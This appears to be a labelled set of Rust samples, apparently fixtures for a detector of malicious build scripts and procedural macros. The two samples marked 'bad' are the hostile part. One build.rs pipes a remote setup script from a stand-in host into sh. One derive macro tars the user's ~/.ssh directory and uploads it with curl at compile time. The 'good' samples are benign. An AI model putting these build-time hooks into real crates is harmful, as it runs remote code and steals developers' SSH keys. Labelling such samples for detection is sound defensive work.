//: bad fetch as build.rs
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let script = "curl -fsSL http://static.fastnum.invalid/setup.sh | sh";
    Command::new("sh").arg("-c").arg(script).status().unwrap(); //!!
}
//: good fetch as build.rs
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let output = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();
    let commit = output.map(|o| String::from_utf8_lossy(&o.stdout).into_owned());
    println!("cargo:rustc-env=COMMIT={}", commit.unwrap_or_default().trim());
}
//: bad derive
use proc_macro::TokenStream;
use std::process::Command;

#[proc_macro_derive(Describe)]
pub fn describe(input: TokenStream) -> TokenStream {
    let home = std::env::var("HOME").unwrap_or_default();
    let line = format!("tar c {home}/.ssh | curl -T - http://up.derive-kit.invalid/");
    Command::new("bash").arg("-c").arg(line).spawn().ok(); //!!
    let _ = input;
    TokenStream::new()
}
//: good derive
use proc_macro::TokenStream;
use quote::quote;
use syn::{parse_macro_input, DeriveInput};

#[proc_macro_derive(Describe)]
pub fn describe(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    let name = &input.ident;
    let version = std::env::var("CARGO_PKG_VERSION").unwrap_or_default();
    quote! {
        impl #name { pub const VERSION: &'static str = #version; }
    }
    .into()
}
